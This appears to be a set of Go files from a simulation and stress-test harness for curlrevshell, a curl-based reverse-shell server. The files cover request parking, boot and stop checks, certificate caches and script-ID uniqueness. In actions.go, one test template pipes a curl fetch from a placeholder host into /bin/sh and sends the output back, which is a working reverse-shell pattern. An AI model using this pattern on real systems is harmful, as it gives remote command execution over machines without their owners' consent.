func (p *parkWriter) Flush() {
	if f, ok := p.ResponseWriter.(http.Flusher); ok {
		f.Flush()
	}
}
func (p *parkWriter) FlushError() error {
	if f, ok := p.ResponseWriter.(interface{ FlushError() error }); ok {
		err := f.FlushError()
		if err != nil && isShellPath(p.path) {
			p.s.mu.Lock()
			p.s.flushFails++
			p.s.mu.Unlock()
		}
		return err
	}
	p.Flush()
	return nil
}

func isShellPath(p string) bool {
	return strings.HasPrefix(p, "/i/") || strings.HasPrefix(p, "/o/") || p == "/io" || strings.HasPrefix(p, "/io/")
}

// enterRequest notes a request and, if the simulator asked for it, holds a
// shell-endpoint request before its handler starts.
func (s *sim) enterRequest(r *http.Request) *reqRec {
	rec := &reqRec{remote: r.RemoteAddr}
	s.mu.Lock()
	rec.duringStop = s.stopping
	s.reqs = append(s.reqs, rec)
	if !s.holdEntry || !isShellPath(r.URL.Path) {
		s.mu.Unlock()
		return rec
	}
	s.holdEntry = false
	w := &wpark{remote: r.RemoteAddr, ch: make(chan struct{})}
	s.eparks = append(s.eparks, w)
	s.mu.Unlock()
	<-w.ch
	return rec
}

func (s *sim) leaveRequest(rec *reqRec, r *http.Request) {
	s.mu.Lock()
	rec.pattern = r.Pattern
	rec.returned = true
	s.mu.Unlock()
}

// releaseEntries lets every held handler go.
func (s *sim) releaseEntries() {
	s.mu.Lock()
	s.holdEntry = false
	parks := s.eparks
	s.eparks = nil
	s.mu.Unlock()
	for _, p := range parks {
		close(p.ch)
	}
}

type wpark struct {
	remote string
	ch     chan struct{}
}

func (s *sim) maybeParkWrite(p *parkWriter) {
	s.mu.Lock()
	if !s.holdC || p.path != "/c" {
		s.mu.Unlock()
		return
	}
	w := &wpark{remote: p.remote, ch: make(chan struct{})}
	s.wparks = append(s.wparks, w)
	s.mu.Unlock()
	<-w.ch
}

func installServerHook() {
	hookOnce.Do(func() {
		hsrv.VerifServerHook = func(hs *http.Server) {
			curMu.Lock()
			s, cap := curSim, capture
			curMu.Unlock()
			if cap != nil {
				cap(hs.Handler)
				return
			}
			if s == nil {
				return
			}
			inner := hs.Handler
			hs.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				rec := s.enterRequest(r)
				defer s.leaveRequest(rec, r)
				inner.ServeHTTP(&parkWriter{ResponseWriter: w, s: s, path: r.URL.Path, remote: r.RemoteAddr}, r)
			})
		}
	})
}

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	probeHost()
	installServerHook()
	s := &sim{rng: rng, job: job, faults: map[string]int64{}, probes: map[string]int64{}, ids: map[string]bool{}, tmplState: "none"}
	if c != nil {
		s.replay = true
		if err := json.Unmarshal(c.Config, &s.cfg); err != nil {
			return &simkit.Outcome{HarnessErr: "bad config: " + err.Error()}
		}
		for _, raw := range c.Actions {
			var a Action
			if err := json.Unmarshal(raw, &a); err != nil {
				return &simkit.Outcome{HarnessErr: "bad action: " + err.Error()}
			}
			s.script2 = append(s.script2, a)
		}
	} else {
		if job.Mode == "search" && job.Property == "C07" && job.Args["profile"] == "" && idx%hammerEvery == hammerEvery/2 {
			return hammer(job, Config{Profile: "C07", HammerMS: 1500, HammerPar: 16})
		}
		s.cfg = genConfig(job, rng)
	}
	if s.cfg.HammerMS > 0 {
		if s.cfg.HammerMS > 10000 || s.cfg.HammerPar < 1 || s.cfg.HammerPar > 64 {
			return &simkit.Outcome{Invalid: true}
		}
		return hammer(job, s.cfg)
	}
	runSerial++
	base := job.Scratch
	if base == "" {
		base = os.TempDir()
	}
	s.dir = filepath.Join(base, fmt.Sprintf("hsrvsim-%d-%d", os.Getpid(), runSerial))
	if err := os.MkdirAll(s.dir, 0o700); err != nil {
		return &simkit.Outcome{HarnessErr: err.Error()}
	}
	defer os.RemoveAll(s.dir)
	s.cachePath = filepath.Join(s.dir, "cache", "sstls", "cert.txtar")
	s.tmplPath = filepath.Join(s.dir, "callback.tmpl")
	s.filesDir = filepath.Join(s.dir, "files")
	_ = os.MkdirAll(s.filesDir, 0o700)
	_ = os.WriteFile(filepath.Join(s.filesDir, "hello.txt"), []byte("hello\n"), 0o600)
	curMu.Lock()
	curSim = s
	curMu.Unlock()
	func() {
		defer func() {
			if r := recover(); r != nil {
				if s.harnessErr == "" {
					s.harnessErr = fmt.Sprintf("panic around bubble: %v\n%s", r, debug.Stack())
				}
			}
		}()
		synctest.Test(t, func(*testing.T) { s.main() })
	}()
	curMu.Lock()
	curSim = nil
	curMu.Unlock()
	if s.flushFails > 0 {
		s.probes["shell_response_flush_failed"] += s.flushFails
	}
	o := &simkit.Outcome{Invalid: s.invalid, Steps: int64(s.step), SimNanos: s.simNanos(), Faults: s.faults, Probes: s.probes,
		NonTrivial: s.nontrivial, Violations: s.found, Trace: s.trace, HarnessErr: s.harnessErr}
	cb, _ := json.Marshal(s.cfg)
	cs := &simkit.Case{Config: cb}
	parts := []string{string(cb)}
	for _, a := range s.actions {
		b, _ := json.Marshal(a)
		cs.Actions = append(cs.Actions, b)
		parts = append(parts, string(b))
	}
	o.Case = cs
	o.Hash = simkit.Hash64(parts...)
	return o
}

var simEnd int64

func (s *sim) simNanos() int64 { return simEnd }

func (s *sim) main() {
	defer func() {
		if r := recover(); r != nil {
			s.harnessErr = fmt.Sprintf("panic in simulator: %v\n%s", r, debug.Stack())
		}
	}()
	s.start = time.Now()
	s.net = simnet.New(s.rng.Uint64())
	cap := s.cfg.ChanCap
	s.ich = make(chan string, cap)
	s.och = make(chan opshell.CLine, cap)
	s.logBuf = &lockedBuf{}
	max := s.cfg.Steps
	if max <= 0 {
		max = 40
	}
	for s.step = 1; s.step <= max && len(s.found) == 0 && s.harnessErr == ""; s.step++ {
		simkit.Heartbeat.Add(1)
		a, ok := s.next()
		if !ok {
			break
		}
		if err := s.precond(a); err != nil {
			if s.replay {
				s.invalid = true
				s.trace = append(s.trace, fmt.Sprintf("step %d %s :: NOT ENABLED: %v", s.step, a, err))
				break
			}
			s.harnessErr = fmt.Sprintf("generated action %s not enabled: %v", a, err)
			break
		}
		s.actions = append(s.actions, a)
		s.apply(a)
		s.settle()
		s.check(a)
		s.checkLog()
		s.flushObs(a.String())
	}
	s.shutdownAll()
	if len(s.found) == 0 && s.harnessErr == "" {
		s.checkLog()
	}
	if len(s.stepObs) > 0 {
		s.flushObs("end")
	}
	simEnd = s.nowNanos()
}

// settle runs the code to quiescence and reads the operator channel dry.
func (s *sim) settle() {
	for i := 0; i < 100000; i++ {
		synctest.Wait()
		got := false
		for {
			select {
			case cl := <-s.och:
				s.record(cl)
				got = true
				continue
			default:
			}
			break
		}
		if !got {
			return
		}
	}
	s.harnessErr = "settle does not converge"
}

// sleep advances the fake clock.
func (s *sim) sleep(d time.Duration) {
	time.Sleep(d)
	s.settle()
}

func (s *sim) record(cl opshell.CLine) {
	s.lines = append(s.lines, cl)
	b := s.boot
	if b == nil {
		return
	}
	line := cl.Line
	rest := line
	if strings.HasPrefix(line, "[") {
		if i := strings.Index(line, "] "); i > 0 {
			rest = line[i+2:]
		}
	}
	switch {
	case cl.Plain:
		s.obs("och plain %dB", len(line))
		return
	case rest == iobroker.ShellReadyMessage:
		b.ready++
		b.readyLine = len(s.lines) - 1
	case rest == iobroker.ShellDisconnectedMessage:
		b.gone++
		if b.ready > 0 && b.goneFull == 0 {
			b.goneFull++
			b.goneAt = s.nowNanos()
		}
	}
	if b.goneFull > 0 && strings.Contains(line, "sha256//") {
		b.helpAfter++
	}
	if rest == iobroker.ShellDisconnectedMessage {
		line = "[*] " + rest // which of two simultaneously ending streams announces it is free
	}
	s.obs("och %q", line)
}

// canon removes run-specific values (keys, ports, IDs) from a text.
func (s *sim) canon(t string) string {
	for _, b := range s.boots {
		if b.pin != "" {
			t = strings.ReplaceAll(t, b.pin, fmt.Sprintf("PIN#%d", b.n))
		}
		if b.boundPort != "" {
			t = strings.ReplaceAll(t, ":"+b.boundPort, ":PORT")
		}
	}
	for i, id := range s.idOrder {
		t = strings.ReplaceAll(t, id, fmt.Sprintf("ID#%d", i))
	}
	for i, id := range s.idOrder {
		// the variants refused attempts are made with: other case, cut short
		if sc := swapCase(id); sc != id {
			t = strings.ReplaceAll(t, sc, fmt.Sprintf("ID#%d^", i))
		}
		if len(id) > 8 {
			t = strings.ReplaceAll(t, id[:len(id)-1], fmt.Sprintf("ID#%d<", i))
		}
		if len(id) > 8 {
			t = strings.ReplaceAll(t, otherFirstByte(id)[1:], fmt.Sprintf("ID#%d~", i))
		}
	}
	t = strings.ReplaceAll(t, s.dir, "$S")
	// script IDs the harness never got to see (random base-36 words): mask
	// every word of that shape, in the log only
	t = reRandomWord.ReplaceAllString(t, "~")
	if len(t) > 1200 {
		t = t[:1200] + "..."
	}
	return t
}

// ---- booting and stopping ------------------------------------------------

func (s *sim) doBoot(a Action) {
	b := &boot{n: len(s.boots), act: a, firstLine: len(s.lines), tmplOn: a.Tmpl}
	iob, err := iobroker.New(s.ich, s.och)
	if err != nil {
		s.harnessErr = "iobroker.New: " + err.Error()
		return
	}
	b.iob = iob
	cert := ""
	if a.Cache {
		cert = s.cachePath
		_, err := os.Stat(s.cachePath)
		b.cacheExisted = err == nil
	}
	fdir, tmplf := "", ""
	if a.FDir {
		fdir = s.filesDir
	}
	if a.Tmpl {
		tmplf = s.tmplPath
	}
	sl := slog.New(slog.NewJSONHandler(s.logBuf, &slog.HandlerOptions{Level: slog.LevelDebug}))
	svr, err := hsrv.New(sl, a.Listen, fdir, tmplf, s.ich, s.och, iob, cert, a.CB, a.IPv6, a.OneShell)
	if err != nil {
		if a.Cache && s.cacheBad {
			// the clean way to deal with a damaged cache: refuse to start
			s.obs("boot refused")
			s.probes["boot_refused_with_damaged_cache"]++
			return
		}
		s.harnessErr = fmt.Sprintf("hsrv.New(%q) failed although nothing was faulted: %v", a.Listen, err)
		return
	}
	if a.Cache && s.cacheBad {
		s.probes["boot_accepted_damaged_cache"]++
	}
	s.mu.Lock()
	s.stopping = false
	s.mu.Unlock()
	b.svr = svr
	b.advert = hsrv.VerifFingerprint(svr)
	if err := hsrv.VerifSwapNetListener(svr, func(inner net.Listener) net.Listener {
		addr := inner.Addr()
		ta, _ := addr.(*net.TCPAddr)
		if ta != nil {
			b.boundPort = strconv.Itoa(ta.Port)
			b.bindHost = ta.IP.String()
			if a.Port443 {
				addr = &net.TCPAddr{IP: ta.IP, Port: 443}
			}
		}
		inner.Close()
		b.ln = s.net.Listen("server", addr)
		return b.ln
	}); err != nil {
		s.harnessErr = "swapping listener: " + err.Error()
		return
	}
	b.ctx, b.cancel = context.WithCancel(context.Background())
	s.boot = b
	s.boots = append(s.boots, b)
	if a.LateIOB {
		s.probes["boots_with_late_broker"]++
	} else {
		s.startIOB(b)
	}
	go func() {
		err := svr.Do(b.ctx)
		s.mu.Lock()
		b.doRet, b.doErr = true, err
		s.mu.Unlock()
	}()
	s.probes["boots"]++
	if a.Cache {
		s.probes["boots_with_cache"]++
	}
}

func (s *sim) doStop() {
	b := s.boot
	if b == nil {
		return
	}
	if !b.iobStarted {
		// at the latest now the broker's Do gets to run (no waiting for
		// quiescence here: a stream whose peer has just gone keeps net/http
		// busy until its own client has gone too, which is what comes next)
		s.lateStartIOB(b)
	}
	for _, c := range s.clients {
		c.closeConn(false)
	}
	s.pre = nil
	s.settle()
	if b.act.OneShell && b.goneFull > 0 {
		// the one shell has come and gone and every client has left: the server
		// finishes by itself, with the sentinel main takes for success
		// (always the full twelve seconds: net/http's shutdown poll has random
		// jitter, and the simulated clock must not depend on it)
		for i := 0; i < 24; i++ {
			s.sleep(500 * time.Millisecond)
		}
		s.mu.Lock()
		done, derr := b.doRet, b.doErr
		s.mu.Unlock()
		if !done {
			s.violate("C12", "exits-after-shell", "server does not finish after the one shell ended",
				"-one-shell: the shell has gone and every client connection is closed, but 12 simulated seconds later Server.Do has not returned")
		} else if derr != hsrv.ErrOneShellClosed {
			s.violate("C12", "exits-after-shell", "server finishes with an error other than the one-shell sentinel",
				"Server.Do returned %v; main treats only ErrOneShellClosed as success", derr)
		} else {
			s.probes["one_shell_finished_by_itself"]++
		}
	}
	s.mu.Lock()
	s.stopping = true
	s.mu.Unlock()
	b.cancel()
	b.stopped = true
	for i := 0; i < 40; i++ {
		s.sleep(500 * time.Millisecond)
	}
	s.mu.Lock()
	done := b.doRet && b.iobRet
	s.mu.Unlock()
	if !done {
		s.violate("C04", "server-stops", "server does not stop after cancellation with every client gone",
			"20 simulated seconds after cancellation with all client connections closed, Server.Do returned=%v Broker.Do returned=%v", b.doRet, b.iobRet)
	}
	b.ln.Close()
	s.boot = nil
	for _, ss := range s.sess {
		ss.closed = true
	}
}

func (s *sim) shutdownAll() {
	s.releaseEntries()
	if s.boot != nil {
		s.doStop()
	}
	for _, c := range s.clients {
		c.closeConn(true)
	}
	done := make(chan struct{})
	go func() {
		for {
			select {
			case <-s.och:
			case <-done:
				return
			}
		}
	}()
	time.Sleep(30 * time.Second)
	synctest.Wait()
	close(done)
	synctest.Wait()
}

var errNotEnabled = errors.New("not enabled")

var reRandomWord = regexp.MustCompile(`\b[0-9a-z]{10,13}\b`)
