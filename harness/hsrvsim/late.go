package hsrvsim

// ---- the broker's event loop starts late ---------------------------------------
//
// main starts Server.Do and Broker.Do concurrently, so a schedule in which a
// shell attaches (and even ends again) before the broker's Do - which runs its
// event loop - has run at all is a legal one.  A boot with LateIOB leaves the
// broker's Do unstarted until a start_iob step (or until the boot is stopped).
// While the loop has not run, events are only queued: the server cannot have
// been told that a shell is attached, so what C12 demands "shortly after the
// ready notice" is judged from the moment the loop runs (checkOneShell); all
// other oracles are as always.

func (s *sim) startIOB(b *boot) {
	b.iobStarted = true
	go func() {
		_ = b.iob.Do(b.ctx)
		s.mu.Lock()
		b.iobRet = true
		s.mu.Unlock()
	}()
}

// lateStartIOB starts the broker's Do of a boot that was made without it.
func (s *sim) lateStartIOB(b *boot) {
	s.startIOB(b)
	s.fault("broker_event_loop_started_late")
	switch {
	case b.goneFull > 0:
		s.probes["shell_came_and_went_before_event_loop"]++
		if b.act.OneShell {
			s.probes["one_shell_came_and_went_before_event_loop"]++
		}
		// the time the server has for finishing by itself counts from now
		if now := s.nowNanos(); b.goneAt < now {
			b.goneAt = now
		}
	case b.ready > 0:
		s.probes["shell_ready_before_event_loop"]++
	}
}

// ---- long IDs ----------------------------------------------------------------------

const longFill = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

// longID brings id to n bytes (IDs longer than that are left alone) with a
// filler from the ID alphabet, so that IDs derived from it - one byte more, one
// byte less, another first byte - agree with it in a long run of bytes.
func longID(id string, n int) string {
	if len(id) >= n {
		return id
	}
	b := make([]byte, 0, n)
	b = append(b, id...)
	b = append(b, '-')
	for i := 0; len(b) < n; i++ {
		b = append(b, longFill[(i*7+len(id))%len(longFill)])
	}
	return string(b[:n])
}

// otherFirstByte is id with its first byte replaced.
func otherFirstByte(id string) string {
	if id == "" {
		return "Q"
	}
	c := byte('Q')
	if id[0] == c {
		c = 'R'
	}
	return string(c) + id[1:]
}
