package hsrvsim

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"sort"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// This file is a STRESS TEST, not a simulation.  A synctest bubble runs one
// goroutine at a time, so two handlers of /c can never be inside the ID
// generator at the same instant there.  net/http runs every connection's
// handler on a goroutine of its own, on as many CPUs as there are; the only way
// to see what that does to the IDs is to do it: real goroutines call the
// server's own handler (the one net/http would call) for /c in parallel for a
// bounded time, outside any bubble, and every ID handed out is compared with
// every other.  The oracle does not depend on the schedule (two scripts never
// carry the same ID); whether a faulty generator is caught in a given second
// does.

// capture, when set, receives the next server's handler instead of it being
// wrapped for a simulation.
var capture func(http.Handler)

const hammerEvery = 120 // one run in so many is a hammer (C07 search only)

// hammer runs the stress test described above.
func hammer(job *simkit.Job, cfg Config) *simkit.Outcome {
	cb, _ := json.Marshal(cfg)
	o := &simkit.Outcome{Case: &simkit.Case{Config: cb}, Hash: simkit.Hash64(string(cb)), NonTrivial: true,
		Faults: map[string]int64{}, Probes: map[string]int64{},
		Trace: []string{fmt.Sprintf("stress test (not a simulation): %d goroutines request /c from the server's handler in parallel for %d ms; all IDs must differ", cfg.HammerPar, cfg.HammerMS)}}
	ich := make(chan string, 16)
	och := make(chan opshell.CLine, 1024)
	ctx, cancel := context.WithCancel(context.Background())
	var bg sync.WaitGroup
	bg.Add(1)
	go func() {
		defer bg.Done()
		for {
			select {
			case <-och:
			case <-ctx.Done():
				// (whatever is still written during the shutdown)
				t := time.NewTimer(200 * time.Millisecond)
				defer t.Stop()
				for {
					select {
					case <-och:
					case <-t.C:
						return
					}
				}
			}
		}
	}()
	defer func() { cancel(); bg.Wait() }()
	iob, err := iobroker.New(ich, och)
	if err != nil {
		o.HarnessErr = "iobroker.New: " + err.Error()
		return o
	}
	got := make(chan http.Handler, 1)
	curMu.Lock()
	capture = func(h http.Handler) {
		select {
		case got <- h:
		default:
		}
	}
	curMu.Unlock()
	defer func() { curMu.Lock(); capture = nil; curMu.Unlock() }()
	svr, err := hsrv.New(slog.New(slog.DiscardHandler), "127.0.0.1:0", "", "", ich, och, iob, "", nil, false, false)
	if err != nil {
		o.HarnessErr = "hsrv.New for the stress test: " + err.Error()
		return o
	}
	doDone := make(chan struct{})
	go func() { _ = iob.Do(ctx) }()
	go func() { defer close(doDone); _ = svr.Do(ctx) }()
	defer func() {
		cancel()
		select {
		case <-doDone:
		case <-time.After(20 * time.Second):
		}
	}()
	var h http.Handler
	select {
	case h = <-got:
	case <-time.After(10 * time.Second):
		o.HarnessErr = "stress test: the server did not hand its handler to the hook within 10 s"
		return o
	}
	par := cfg.HammerPar
	ids := make([][]string, par)
	var bad [1]string
	var badMu sync.Mutex
	deadline := time.Now().Add(time.Duration(cfg.HammerMS) * time.Millisecond)
	var wg sync.WaitGroup
	for g := 0; g < par; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for n := 0; ; n++ {
				if n%64 == 0 {
					if time.Now().After(deadline) {
						return
					}
					simkit.Heartbeat.Add(1)
				}
				req := httptest.NewRequest("GET", "/c?c2=stress.example", nil)
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, req)
				body := rec.Body.Bytes()
				i := bytes.Index(body, []byte("stress.example/i/"))
				if rec.Code != 200 || i < 0 {
					badMu.Lock()
					if bad[0] == "" {
						bad[0] = fmt.Sprintf("status %d body %q", rec.Code, clip(body))
					}
					badMu.Unlock()
					return
				}
				rest := body[i+len("stress.example/i/"):]
				if j := bytes.IndexAny(rest, " \t\r\n\"'"); j >= 0 {
					rest = rest[:j]
				}
				ids[g] = append(ids[g], string(rest))
			}
		}(g)
	}
	wg.Wait()
	if bad[0] != "" {
		o.Violations = append(o.Violations, simkit.Found{Property: "C07", Invariant: "script-served-parallel", Signature: "no script for a plain /c request made in parallel with others",
			Message: "stress test: " + bad[0]})
		return o
	}
	var all []string
	for _, l := range ids {
		all = append(all, l...)
	}
	sort.Strings(all)
	o.Probes["stress_hammers"]++
	o.Probes["stress_scripts_requested"] += int64(len(all))
	o.Probes["coin_steps"]++ // (a replay of this case is tried more than once)
	o.Steps = int64(len(all))
	for i := 1; i < len(all); i++ {
		if all[i] == all[i-1] {
			o.Violations = append(o.Violations, simkit.Found{Property: "C07", Invariant: "id-fresh-parallel", Signature: "ID repeated between scripts that were requested in parallel",
				Message: fmt.Sprintf("stress test (real goroutines, no simulation): of %d scripts requested from the server's handler by %d goroutines within %d ms, two carry the same ID %q", len(all), par, cfg.HammerMS, all[i])})
			break
		}
	}
	return o
}
