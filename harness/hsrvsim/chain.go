package hsrvsim

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"math/big"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/tools/txtar"
)

// writeChainCache writes a certificate cache holding a leaf certificate
// followed by the CA that issued it, and the leaf's key.  It returns the pin
// of the leaf's key, which is what a listener started from this file serves.
func writeChainCache(path string) (string, error) {
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	leafKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	now := time.Now()
	caT := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "harness CA"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.AddDate(20, 0, 0), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature}
	caDER, err := x509.CreateCertificate(rand.Reader, caT, caT, &caKey.PublicKey, caKey)
	if err != nil {
		return "", err
	}
	leafT := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "harness leaf"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.AddDate(20, 0, 0),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	leafDER, err := x509.CreateCertificate(rand.Reader, leafT, caT, &leafKey.PublicKey, caKey)
	if err != nil {
		return "", err
	}
	leaf, err := x509.ParseCertificate(leafDER)
	if err != nil {
		return "", err
	}
	keyDER, err := x509.MarshalPKCS8PrivateKey(leafKey)
	if err != nil {
		return "", err
	}
	certPEM := append(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: leafDER}),
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})...)
	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER})
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		return "", err
	}
	ar := &txtar.Archive{Comment: []byte("installed by the operator\n"), Files: []txtar.File{{Name: "cert", Data: certPEM}, {Name: "key", Data: keyPEM}}}
	if err := os.WriteFile(path, txtar.Format(ar), 0o600); err != nil {
		return "", err
	}
	h := sha256.Sum256(leaf.RawSubjectPublicKeyInfo)
	return base64.StdEncoding.EncodeToString(h[:]), nil
}
