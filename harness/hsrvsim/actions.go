package hsrvsim

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"net"
	"net/url"
	"os"
	"regexp"
	"sort"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func (s *sim) next() (Action, bool) {
	if s.replay {
		if s.scriptPos < len(s.script2) {
			a := s.script2[s.scriptPos]
			s.scriptPos++
			return a, true
		}
		return Action{}, false
	}
	return s.generate()
}

func (s *sim) sessionN(n int) *session {
	if n < 0 || n >= len(s.sess) {
		return nil
	}
	return s.sess[n]
}

func (s *sim) liveSession() *session {
	for _, ss := range s.sess {
		if !ss.closed && ss.expectOK {
			return ss
		}
	}
	return nil
}

func (s *sim) precond(a Action) error {
	up := s.boot != nil
	switch a.K {
	case "boot":
		if up {
			return fmt.Errorf("already up")
		}
		switch a.Listen {
		case "[::1]:0", "::1":
			if !haveV6 {
				return fmt.Errorf("no IPv6 loopback on this machine")
			}
		case "0.0.0.0:0", "0.0.0.0":
			if !haveWild {
				return fmt.Errorf("no non-loopback interface on this machine")
			}
		case "127.0.0.1:0", "127.0.0.1":
		case "localhost:0", "localhost":
			if !haveLocalhost {
				return fmt.Errorf("localhost does not resolve to 127.0.0.1 from /etc/hosts here")
			}
		default:
			return fmt.Errorf("unknown listen form")
		}
	case "stop":
		if !up {
			return fmt.Errorf("not up")
		}
	case "start_iob":
		if !up || s.boot.iobStarted {
			return fmt.Errorf("not up or the broker's Do is running already")
		}
	case "squeeze_c":
		if !up || !s.boot.tmplOn || a.Margin < 8 || a.Margin > 256 || a.N <= a.Margin || a.N > 512 {
			return fmt.Errorf("not up, no template file configured or bad numbers")
		}
		if s.boot.act.OneShell && s.boot.ready > 0 {
			return fmt.Errorf("listener is expected to be closed")
		}
	case "tmpl":
		if a.Via != "" && a.Via != "link" {
			return fmt.Errorf("unknown way of installing a template")
		}
	case "del_cache", "sleep":
	case "damage_cache":
		if up || a.Mask < 1 || a.N < 0 {
			return fmt.Errorf("only between boots, one base64 character")
		}
		switch a.Which {
		case "head", "issuer", "validity", "subject", "spki", "ext", "tail":
			if a.Mask > 128 || a.Mask&(a.Mask-1) != 0 {
				return fmt.Errorf("one bit of a byte")
			}
		case "key":
			if a.Mask > 63 {
				return fmt.Errorf("one base64 character")
			}
		default:
			return fmt.Errorf("unknown section")
		}
		if _, err := os.Stat(s.cachePath); err != nil {
			return fmt.Errorf("no cache file")
		}
	case "regen_cache":
	case "chain_cache":
		if up {
			return fmt.Errorf("only between boots")
		}
	case "burst_c":
		if !up || a.N < 2 || a.N > 8 {
			return fmt.Errorf("not up or bad burst size")
		}
		if s.boot.act.OneShell && s.boot.ready > 0 {
			return fmt.Errorf("listener is expected to be closed")
		}
	case "preconnect":
		if !up || len(s.pre) >= 4 {
			return fmt.Errorf("not up or enough idle connections")
		}
		if s.boot.act.OneShell && s.boot.ready > 0 {
			return fmt.Errorf("listener is expected to be closed")
		}
	case "get_c", "probe", "open_in", "open_out", "open_io":
		if !up {
			return fmt.Errorf("not up")
		}
		if a.Pre {
			if a.K == "get_c" || a.K == "probe" || len(s.pre) == 0 {
				return fmt.Errorf("no idle connection to use")
			}
		} else if s.boot.act.OneShell && s.boot.ready > 0 {
			return fmt.Errorf("listener is expected to be closed")
		}
		if a.K == "open_in" || a.K == "open_out" {
			ss := s.sessionN(a.S)
			if ss == nil || ss.closed {
				if a.S != len(s.sess) {
					return fmt.Errorf("no such session")
				}
			} else if a.K == "open_in" && ss.in != nil || a.K == "open_out" && ss.out != nil || ss.io != nil {
				return fmt.Errorf("half already open")
			}
		}
		if a.K == "open_io" && a.S != len(s.sess) {
			return fmt.Errorf("session exists")
		}
		if a.Flood < 0 || a.Flood > 1024 || a.Flood > 0 && (a.Piece < 1 || a.Piece > 512 || a.K == "open_in" || a.Which == "bad" || a.Early) {
			return fmt.Errorf("bad flood")
		}
		if a.Early {
			if a.S != len(s.sess) {
				return fmt.Errorf("an early reset is a session of its own")
			}
			if live := s.liveSession(); live != nil {
				if a.K != "open_io" || a.Which != "bad" {
					return fmt.Errorf("with a shell attached only a bidirectional attempt is refused whatever its ID")
				}
			} else if a.Which == "bad" || len(s.ich) != 0 {
				return fmt.Errorf("lines are waiting for the next shell")
			}
		}
		if a.K != "open_io" && a.S == len(s.sess) && a.ID == "" {
			return fmt.Errorf("a new session needs an ID")
		}
		if a.Long != 0 && (a.Long < 2 || a.Long > 1024 || a.K == "open_io" || a.S != len(s.sess) || strings.HasPrefix(a.ID, "$live")) {
			return fmt.Errorf("only a new session's own ID can be made long")
		}
	case "run_script":
		if !up || !s.script.ok || s.script.boot != s.boot.n {
			return fmt.Errorf("no script from this boot")
		}
		if s.liveSession() != nil {
			return fmt.Errorf("a shell is attached")
		}
		if s.boot.act.OneShell && s.boot.ready > 0 {
			return fmt.Errorf("listener closed")
		}
	case "line":
		if !up {
			return fmt.Errorf("not up")
		}
		if len(s.ich) == cap(s.ich) {
			return fmt.Errorf("operator input buffer full")
		}
	case "out":
		ss := s.sessionN(a.S)
		if !up || ss == nil || ss.closed || (ss.out == nil && ss.io == nil) {
			return fmt.Errorf("no output stream")
		}
		if a.Flood < 0 || a.Flood > 1024 || a.Flood > 0 && (a.Piece < 1 || a.Piece > 512) {
			return fmt.Errorf("bad flood")
		}
	case "reset_lines":
		ss := s.sessionN(a.S)
		if !up || ss == nil || ss.closed || ss.closing || !ss.expectOK || a.N < 1 || a.N > 5 {
			return fmt.Errorf("no such session")
		}
		if ss.io == nil && (ss.in == nil || ss.out == nil) {
			return fmt.Errorf("shell not complete")
		}
		if len(s.ich)+a.N > cap(s.ich) {
			return fmt.Errorf("operator input buffer full")
		}
	case "close":
		ss := s.sessionN(a.S)
		if !up || ss == nil || ss.closed || ss.closing {
			return fmt.Errorf("no such session")
		}
		if a.Which == "out" && ss.out == nil && ss.io == nil {
			return fmt.Errorf("no output stream to close")
		}
		if ss.in == nil && ss.out == nil && ss.io == nil {
			return fmt.Errorf("nothing open")
		}
	default:
		return fmt.Errorf("unknown action %q", a.K)
	}
	return nil
}

// pad brings every template variant to one size (so that a cache keyed on size
// and time stamp cannot tell them apart).
func pad(t string) string {
	const size = 420
	for len(t) < size-1 {
		t += "#"
	}
	return t + "\n"
}

func validTemplate(k int) string {
	return pad(validTemplate0(k))
}

func validTemplate0(k int) string {
	return fmt.Sprintf("#!/bin/sh\n# marker-%04d\ncurl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |\n/bin/sh 2>&1 |\ncurl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1\n", k)
}

func (s *sim) apply(a Action) {
	switch a.K {
	case "boot":
		s.doBoot(a)
	case "stop":
		s.doStop()
	case "start_iob":
		s.lateStartIOB(s.boot)
	case "squeeze_c":
		s.squeezeC(a)
	case "sleep":
		s.sleep(time.Duration(a.Ms) * time.Millisecond)
	case "del_cache":
		_ = os.Remove(s.cachePath)
		s.cachePin = ""
